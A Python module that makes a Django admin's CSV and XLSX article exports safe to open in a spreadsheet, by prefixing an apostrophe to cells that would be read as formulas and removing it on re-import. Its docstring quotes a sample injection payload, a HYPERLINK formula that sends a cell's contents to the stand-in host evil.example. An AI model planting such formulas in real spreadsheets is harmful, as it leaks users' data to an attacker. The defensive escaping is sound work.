"""Spreadsheet formats of the article admin's import and export, safe to open in a spreadsheet.

An imported title such as `=HYPERLINK("http://evil.example/?x="&A2,"Click me")` must reach a
spreadsheet as text, never as a formula: every exported text cell that a spreadsheet would read
as a formula (starting with =, +, -, @, a tab or a carriage return) is prefixed with an
apostrophe, as OWASP recommends. Importing such a sheet again removes the apostrophe, so an
export re-imports as itself (all duplicates).
"""

from import_export.formats.base_formats import CSV, JSON, XLSX

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def escape_formula(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return ESCAPE + value
    return value


def unescape_formula(value):
    if isinstance(value, str) and value.startswith(ESCAPE) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def _map_cells(dataset, function) -> None:
    for _ in range(len(dataset)):  # each row taken from the front, put back at the end
        dataset.append([function(cell) for cell in dataset.lpop()])


class _FormulaSafe:
    def export_data(self, dataset, **kwargs):
        _map_cells(dataset, escape_formula)
        return super().export_data(dataset, **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        dataset = super().create_dataset(in_stream, **kwargs)
        _map_cells(dataset, unescape_formula)
        return dataset


class SafeCSV(_FormulaSafe, CSV):
    pass


class SafeXLSX(_FormulaSafe, XLSX):
    pass


# JSON is data, not a sheet: nothing to escape.
SPREADSHEET_FORMATS = [SafeCSV, JSON, SafeXLSX]
